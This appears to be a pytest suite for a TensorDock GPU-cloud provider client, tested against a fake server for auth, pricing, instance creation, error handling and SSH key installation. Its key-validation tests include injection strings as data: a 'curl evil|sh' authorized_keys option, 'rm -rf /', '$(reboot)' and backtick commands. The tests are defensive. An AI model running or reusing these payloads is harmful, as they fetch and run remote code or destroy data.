"""TensorDockProvider against the fake TensorDock server: every wire quirk of domain-broker Part 2 §2.3 / §9.5.

Real HTTP on loopback; the clock is manual and the sleep records the delays it is asked for.
"""
from __future__ import annotations

import logging
import subprocess
from dataclasses import replace

import asyncssh
import httpx
import pytest

from gantry_server.providers.base import CreateSpec, ErrorKind, InstanceState, OfferQuery, ProviderError
from gantry_server.providers.tensordock import POLICY, TensorDockProvider, runcmd
from tests.fakes import NO_PUBLIC_IPS, FakeTensorDock, td_gpu
from tests.fakes.ssh_hosts import SshHostPool

TOKEN = "td-token-0123456789abcdef"
AUTH_ID = "td-auth-id-fedcba987654"
KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh consumer"
KEY_B = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJi broker"
V0 = "geforcertx4090-pcie-24gb"
FAST = replace(POLICY, rate_per_second=1000.0, burst=1000)  # the real backoff and breaker, no rate waits


@pytest.fixture
async def fake():
    async with FakeTensorDock(api_token=TOKEN, auth_id=AUTH_ID) as f:
        f.location_id = f.add_location(city="Manassas", stateprovince="Virginia", country="United States", tier=2,
                                       gpus=[td_gpu(V0, "NVIDIA GeForce RTX 4090 PCIe 24GB", price_per_hr=0.35,
                                                    per_vcpu_hr=0.003, per_gb_ram_hr=0.002,
                                                    per_gb_storage_hr=0.00005)])
        yield f


@pytest.fixture
async def td(fake, clock, sleep):
    provider = TensorDockProvider(api_token=TOKEN, auth_id=AUTH_ID, base_url=fake.base_url, clock=clock, sleep=sleep,
                                  policy=FAST)
    yield provider
    await provider.aclose()


async def the_offer(td: TensorDockProvider, location_id: str, v0: str = V0):
    return next(o for o in await td.list_offers(OfferQuery()) if o.provider_id == f"{location_id}-{v0}")


def spec(offer, label: str = "gantry-dep1-sess1", keys=(KEY_A,), **kw) -> CreateSpec:
    return CreateSpec(offer=offer, label=label, ssh_public_keys=tuple(keys), disk_gb=kw.pop("disk_gb", 100), **kw)


# -- auth --------------------------------------------------------------------------------------------------------

async def test_locations_authenticate_by_query_and_instances_by_bearer(fake, td):
    offer = await the_offer(td, fake.location_id)
    instance = await td.create_instance(spec(offer))
    await td.get_instance(instance.instance_id)
    await td.list_instances()
    await td.destroy_instance(instance.instance_id)
    for r in fake.requests:
        if r.path == "/locations":
            assert r.query == {"api_key": AUTH_ID, "api_token": TOKEN} and "authorization" not in r.headers
        else:
            assert r.headers["authorization"] == f"Bearer {TOKEN}" and "api_token" not in r.query
    assert {r.route for r in fake.requests} == {"GET /locations", "POST /instances", "GET /instances/{id}",
                                                "GET /instances", "DELETE /instances/{id}"}


async def test_wrong_credentials_are_auth_errors_that_never_show_the_secrets(fake, clock, sleep, caplog):
    token, auth_id = "td-wrong-token-aaaabbbbcccc", "td-wrong-auth-ddddeeeeffff"
    caplog.set_level(logging.DEBUG)
    provider = TensorDockProvider(api_token=token, auth_id=auth_id, base_url=fake.base_url, clock=clock, sleep=sleep)
    try:
        errors = []
        for call in (lambda: provider.list_offers(OfferQuery()), provider.list_instances):
            with pytest.raises(ProviderError) as err:
                await call()
            errors.append(err.value)
    finally:
        await provider.aclose()
    assert [e.kind for e in errors] == [ErrorKind.AUTH, ErrorKind.AUTH]
    assert "Invalid credentials" in str(errors[0]) and "Unauthorized" in str(errors[1])  # the fake echoes them...
    for text in [str(e) for e in errors] + [caplog.text]:
        assert token not in text and auth_id not in text  # ...but never what we sent
    assert "HTTP Request: GET" in caplog.text  # httpx did log the /locations URL, masked


# -- offers ------------------------------------------------------------------------------------------------------

async def test_an_offer_is_one_gpu_at_the_full_price_of_what_create_rents(fake, td):
    offer = await the_offer(td, fake.location_id)
    assert (offer.offer_id, offer.gpu_type, offer.gpu_count, offer.vram_gb) == (
        f"tensordock-{fake.location_id}-{V0}", "RTX 4090", 1, 24)
    assert offer.price_per_hour == pytest.approx(0.35 + 8 * 0.003 + 32 * 0.002 + 100 * 0.00005)
    instance = await td.create_instance(spec(offer, disk_gb=td.default_disk_gb))
    held = fake.instances[instance.instance_id]
    assert held.body["data"]["attributes"]["resources"] == {"vcpu_count": 8, "ram_gb": 32, "storage_gb": 100,
                                                            "gpus": {V0: {"count": 1}}}
    assert held.price_per_hour == pytest.approx(offer.price_per_hour)  # the provider bills what was priced
    assert instance.price_per_hour == pytest.approx(offer.price_per_hour)


async def test_a_bigger_disk_is_rented_and_priced_as_such(fake, td):
    offer = await the_offer(td, fake.location_id)
    instance = await td.create_instance(spec(offer, disk_gb=300))
    held = fake.instances[instance.instance_id]
    assert held.body["data"]["attributes"]["resources"]["storage_gb"] == 300
    assert instance.price_per_hour == pytest.approx(held.price_per_hour)
    assert instance.price_per_hour == pytest.approx(offer.price_per_hour + 200 * 0.00005)


async def test_small_nodes_are_priced_and_rented_within_their_limits(fake, td):
    small = fake.add_location(city="Joplin", stateprovince="Missouri", tier=1,
                              gpus=[td_gpu("rtxa4000-pcie-16gb", "NVIDIA RTX A4000 PCIe 16GB", price_per_hr=0.1,
                                           per_vcpu_hr=0.01, per_gb_ram_hr=0.001, per_gb_storage_hr=0.0001,
                                           max_vcpus=4, max_ram_gb=16, max_storage_gb=80)])
    offer = await the_offer(td, small, "rtxa4000-pcie-16gb")
    assert offer.price_per_hour == pytest.approx(0.1 + 4 * 0.01 + 16 * 0.001 + 80 * 0.0001)
    assert (offer.gpu_type, offer.vram_gb, offer.reliability) == ("RTX A4000", 16, pytest.approx(1 / 3))
    instance = await td.create_instance(spec(offer, disk_gb=td.default_disk_gb))  # the node holds only 80 GB
    held = fake.instances[instance.instance_id]
    assert held.body["data"]["attributes"]["resources"]["storage_gb"] == 80
    assert held.price_per_hour == pytest.approx(offer.price_per_hour) == instance.price_per_hour


async def test_offer_fields(fake, td):
    fake.add_location(city="Chubbuck", stateprovince="Idaho", tier=5,
                      gpus=[td_gpu("h100-sxm5-80gb", "NVIDIA H100 SXM5 80GB", price_per_hr=2.0)])
    offers = {o.gpu_type: o for o in await td.list_offers(OfferQuery(min_cuda=12.0))}  # nothing filtered here
    h100, rtx = offers["H100 SXM5"], offers["RTX 4090"]
    assert (h100.vram_gb, h100.location, h100.reliability) == (80, "Chubbuck, Idaho, United States", 1.0)
    assert (rtx.location, rtx.reliability) == ("Manassas, Virginia, United States", pytest.approx(2 / 3))
    assert rtx.cuda_version is None and rtx.available is True and rtx.base_confidence == 0.3
    assert td.offer_ttl_seconds == 30.0


# -- create ------------------------------------------------------------------------------------------------------

async def test_create_body_is_json_api_with_a_dedicated_ip_and_keys_installed_by_runcmd(fake, td):
    offer = await the_offer(td, fake.location_id)
    instance = await td.create_instance(spec(offer, keys=(KEY_A, KEY_B)))
    held = fake.instances[instance.instance_id]
    data = held.body["data"]
    attrs = data["attributes"]
    assert data["type"] == attrs["type"] == "virtualmachine"
    assert (attrs["name"], attrs["image"], attrs["location_id"], attrs["useDedicatedIp"], attrs["ssh_key"]) == (
        "gantry-dep1-sess1", "ubuntu2204", fake.location_id, True, KEY_A)
    assert held.keys_by_user == {"root": [KEY_A, KEY_B], "user": [KEY_A, KEY_B]}
    assert (instance.instance_id, instance.label, instance.ssh_user) == (held.id, "gantry-dep1-sess1", "user")


async def test_the_ssh_key_field_alone_installs_nothing(fake):
    """BUG-002, as the fake reproduces it: a create without the runcmd leaves the VM unreachable."""
    body = {"data": {"type": "virtualmachine", "attributes": {
        "name": "gantry-x-y", "type": "virtualmachine", "image": "ubuntu2204", "location_id": fake.location_id,
        "resources": {"vcpu_count": 8, "ram_gb": 32, "storage_gb": 100, "gpus": {V0: {"count": 1}}},
        "ssh_key": KEY_A, "cloud_init": {"runcmd": []}}}}
    async with httpx.AsyncClient() as client:
        reply = await client.post(fake.base_url + "/instances", json=body, headers={"Authorization": f"Bearer {TOKEN}"})
    held = fake.instances[reply.json()["data"]["id"]]
    assert held.authorized_keys == [] and held.keys_by_user == {"root": [], "user": []}


async def test_the_key_install_runs_for_real_and_nothing_in_a_key_or_command_is_executed(tmp_path):
    pwned = tmp_path / "pwned"
    hostile_key = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== x'$(touch {pwned})`touch {pwned}`;touch {pwned}"
    hostile_cmd = f"echo hi'; touch {pwned}; echo '$(reboot)\nid"
    install, fix, on_start = runcmd((KEY_A, hostile_key), hostile_cmd)
    assert on_start == ["sh", "-c", hostile_cmd]  # the user's command runs as itself, last, after the keys
    assert all(hostile_cmd not in " ".join(entry) for entry in (install, fix))
    root, user = tmp_path / "root", tmp_path / "user"
    script = install[2].replace("/root/.ssh", str(root)).replace("/home/user/.ssh", str(user))
    subprocess.run([*install[:2], script, *install[3:]], check=True, timeout=10)
    for home in (root, user):
        assert (home / "authorized_keys").read_text() == f"{KEY_A}\n{hostile_key}\n"
        assert (home / "authorized_keys").stat().st_mode & 0o777 == 0o600
    assert not pwned.exists()


@pytest.mark.parametrize("bad_key", [
    f"{KEY_A}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== injected",  # a second line
    f'command="curl evil|sh" {KEY_A}',  # authorized_keys options
    "ssh-ed25519 AAAA;rm -rf / x",
    "not a key",
])
async def test_keys_that_are_not_one_openssh_key_are_refused_before_any_request(fake, td, bad_key):
    offer = await the_offer(td, fake.location_id)
    with pytest.raises(ProviderError) as err:
        await td.create_instance(spec(offer, keys=(bad_key,)))
    assert err.value.kind is ErrorKind.INVALID and fake.count("POST /instances") == 0


async def test_a_validation_array_is_invalid(fake, td):
    offer = await the_offer(td, fake.location_id)
    with pytest.raises(ProviderError) as err:
        await td.create_instance(spec(offer, disk_gb=0))
    assert err.value.kind is ErrorKind.INVALID and err.value.status == 400 and "storage_gb" in err.value.detail
    assert fake.alive == set()


@pytest.mark.parametrize("reply", [
    None,  # the fake's default: HTTP 200 {"status": 400, "error": "No available nodes found ..."}
    NO_PUBLIC_IPS,  # HTTP 400 (the reference did not see this one as stale: defect 23)
    (503, {"status": 503, "error": "No available nodes found"}),
    (200, {"status": 409, "error": "GPU sold out at this location"}),
])
async def test_sold_out_is_stale_inventory_whatever_the_http_status(fake, td, sleep, reply):
    offer = await the_offer(td, fake.location_id)
    fake.sell_out(fake.location_id, V0)
    if reply is not None:
        fake.sold_out_reply = reply
    with pytest.raises(ProviderError) as err:
        await td.create_instance(spec(offer))
    assert err.value.kind is ErrorKind.STALE_INVENTORY
    assert fake.count("POST /instances") == 1 and sleep.take() == []


async def test_an_error_inside_a_200_is_classified_by_its_own_status(fake, td, sleep):
    offer = await the_offer(td, fake.location_id)
    for body, kind in (({"status": 500, "error": "Internal server error"}, ErrorKind.TRANSIENT),
                       ({"status": 403, "error": "Forbidden"}, ErrorKind.AUTH),
                       ({"status": 400, "error": "Image not supported"}, ErrorKind.INVALID)):
        fake.fail_next(1, status=200, body=body, route="POST /instances")
        with pytest.raises(ProviderError) as err:
            await td.create_instance(spec(offer))
        assert err.value.kind is kind and body["error"] in err.value.detail
    assert fake.alive == set() and sleep.take() == []  # a create is not repeated after a server error


async def test_a_rate_limited_create_is_retried_and_rents_once(fake, td, sleep):
    offer = await the_offer(td, fake.location_id)
    fake.fail_next(1, status=429, body={"status": 429, "error": "Too many requests"}, route="POST /instances")
    instance = await td.create_instance(spec(offer))
    assert fake.alive == {instance.instance_id} and sleep.take() == [1.0]


async def test_location_confidence_follows_create_outcomes(fake, td, clock):
    async def confidence() -> float:
        return (await the_offer(td, fake.location_id)).base_confidence

    offer = await the_offer(td, fake.location_id)
    assert await confidence() == 0.3
    await td.create_instance(spec(offer))
    assert await confidence() == 1.0
    fake.sell_out(fake.location_id, V0)
    with pytest.raises(ProviderError):
        await td.create_instance(spec(offer))
    assert await confidence() == 0.25  # 1/2, halved after a failure
    fake.capacity[(fake.location_id, V0)] = 1
    await td.create_instance(spec(offer))
    assert await confidence() == pytest.approx(2 / 3)
    clock.advance(minutes=30)
    assert await confidence() == 0.3  # forgotten after 30 idle minutes


async def test_repeated_failures_floor_the_confidence(fake, td):
    offer = await the_offer(td, fake.location_id)
    fake.sell_out(fake.location_id, V0)
    for _ in range(3):
        with pytest.raises(ProviderError):
            await td.create_instance(spec(offer))
    assert (await the_offer(td, fake.location_id)).base_confidence == 0.05


# -- status ------------------------------------------------------------------------------------------------------

async def test_status_is_unwrapped_and_ssh_is_the_port_forwarded_to_22(fake, td):
    shared = fake.add_location(city="Orlando", stateprovince="Florida",
                               gpus=[td_gpu(V0, price_per_hr=0.3, dedicated_ip_available=False)])
    fake.boot_polls = 1
    instance = await td.create_instance(spec(await the_offer(td, shared)))
    held = fake.instances[instance.instance_id]
    starting, running = await td.get_instance(instance.instance_id), await td.get_instance(instance.instance_id)
    assert (starting.state, starting.raw_status) == (InstanceState.STARTING, "starting")
    assert running.state is InstanceState.RUNNING and held.ports[22] != 22
    assert (running.ssh_host, running.ssh_port, running.ssh_user) == (fake.shared_ip, held.ports[22], "user")
    assert running.price_per_hour == pytest.approx(held.price_per_hour)


async def test_a_dedicated_ip_serves_ssh_on_22(fake, td):
    fake.ignores_port_forwards.add(fake.location_id)  # BUG-008: forwards would be dropped here anyway
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    fake.set_status(instance.instance_id, "running")
    current = await td.get_instance(instance.instance_id)
    assert current.ssh_port == 22 and current.ssh_host == fake.instances[instance.instance_id].public_ip
    assert current.ssh_host != fake.shared_ip


@pytest.mark.parametrize("gone_reply", ["404", "200"])
async def test_an_unknown_instance_reads_gone(fake, td, gone_reply):
    fake.gone_reply = gone_reply
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    await fake.vanish(instance.instance_id)
    assert (await td.get_instance(instance.instance_id)).state is InstanceState.GONE


async def test_a_status_failure_is_an_error_never_gone(fake, td):
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    fake.fail_next(3, status=502, route="GET /instances/{id}")
    with pytest.raises(ProviderError) as err:
        await td.get_instance(instance.instance_id)
    assert err.value.kind is ErrorKind.TRANSIENT


# -- listing -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("shape", ["flat", "nested"])
async def test_both_list_shapes_and_only_gantry_names(fake, td, shape):
    fake.list_shape = shape
    fake.add_instance("my-personal-vm")
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    (listed,) = await td.list_instances()
    assert (listed.instance_id, listed.label) == (instance.instance_id, "gantry-dep1-sess1")


@pytest.mark.parametrize("status,body", [
    (500, {"status": 500, "error": "Internal"}), (404, {"status": 404, "error": "Not found"}),
    (200, {"status": 500, "error": "Database unavailable"}), (204, None), (200, {"unexpected": "shape"}),
    (200, {"data": None}), (502, "<html>Bad gateway</html>"),
])
async def test_a_failed_listing_is_an_error_never_an_empty_list(fake, td, sleep, status, body):
    await td.create_instance(spec(await the_offer(td, fake.location_id)))
    fake.fail_next(3, status=status, body=body if body is not None else "", route="GET /instances")
    with pytest.raises(ProviderError) as err:
        await td.list_instances()
    assert err.value.kind is ErrorKind.TRANSIENT
    assert sleep.take() == [1.0, 2.0] and fake.count("GET /instances") == 3
    assert len(await td.list_instances()) == 1


async def test_a_new_instance_can_be_missing_from_the_listing_for_a_while(fake, td):
    fake.listing_lag = 1
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    assert [await td.list_instances() for _ in range(2)][0] == []
    assert [i.instance_id for i in await td.list_instances()] == [instance.instance_id]


async def test_a_rate_limited_inventory_fetch_is_retried(fake, td, sleep):
    fake.fail_next(2, status=429, body={"status": 429, "error": "Too many requests"}, route="GET /locations")
    assert len(await td.list_offers(OfferQuery())) == 1
    assert sleep.take() == [1.0, 2.0]


async def test_two_requests_per_second_with_a_burst_of_three(fake, clock, sleep):
    provider = TensorDockProvider(api_token=TOKEN, auth_id=AUTH_ID, base_url=fake.base_url, clock=clock,
                                  sleep=sleep)  # the real policy
    try:
        for _ in range(5):
            await provider.list_offers(OfferQuery())
        assert sleep.take() == [0.5, 0.5]
    finally:
        await provider.aclose()


# -- destroy, stop, ids, defaults --------------------------------------------------------------------------------

async def test_destroy_is_idempotent(fake, td):
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    await td.destroy_instance(instance.instance_id)
    await td.destroy_instance(instance.instance_id)  # 404: already gone
    assert fake.delete_calls[instance.instance_id] == 2 and fake.alive == set()
    assert fake.capacity[(fake.location_id, V0)] == 4  # the GPU went back to the location


@pytest.mark.parametrize("bad", ["", "a/b", "a\\b", "a%2Fb", "a%5cb", "x" * 129])
async def test_malformed_instance_ids_never_reach_the_provider(fake, td, bad):
    for call in (td.get_instance, td.destroy_instance, td.stop_instance):
        with pytest.raises(ProviderError) as err:
            await call(bad)
        assert err.value.kind is ErrorKind.INVALID
    assert fake.requests == []


async def test_stop(fake, td):
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    await td.stop_instance(instance.instance_id)
    assert fake.count("POST /instances/{id}/stop") == 1
    assert (await td.get_instance(instance.instance_id)).state is InstanceState.STOPPED


async def test_defaults_and_the_configurable_ssh_pre_delay(fake, td):
    assert (td.default_ssh_user, td.default_disk_gb, td.ssh_pre_delay_seconds) == ("user", 100, 90.0)
    assert await td.list_templates() == []
    quick = TensorDockProvider(api_token=TOKEN, auth_id=AUTH_ID, base_url=fake.base_url, ssh_pre_delay_seconds=5)
    assert quick.ssh_pre_delay_seconds == 5
    await quick.aclose()


async def test_an_ssh_hook_decides_the_reported_endpoint(fake, td):
    async def backed_by_ssh(inst):
        return ("127.0.0.1", 2200)

    fake.on_instance_created = backed_by_ssh
    instance = await td.create_instance(spec(await the_offer(td, fake.location_id)))
    fake.set_status(instance.instance_id, "running")
    current = await td.get_instance(instance.instance_id)
    assert (current.ssh_host, current.ssh_port) == ("127.0.0.1", 2200)
    assert fake.instances[instance.instance_id].authorized_keys == [KEY_A]  # what a real SSH host should accept


async def test_instances_backed_by_real_ssh_accept_the_runcmd_key_as_user(fake, td, tmp_path):
    key = asyncssh.generate_private_key("ssh-ed25519")
    pool = SshHostPool(tmp_path).attach(fake)
    try:
        instance = await td.create_instance(spec(await the_offer(td, fake.location_id),
                                                 keys=(key.export_public_key().decode(),)))
        fake.set_status(instance.instance_id, "running")
        current = await td.get_instance(instance.instance_id)
        async with asyncssh.connect(current.ssh_host, port=current.ssh_port, username="user", client_keys=[key],
                                    known_hosts=None) as conn:
            assert (await conn.run("echo ok", check=True)).stdout.strip() == "ok"
    finally:
        await pool.aclose()
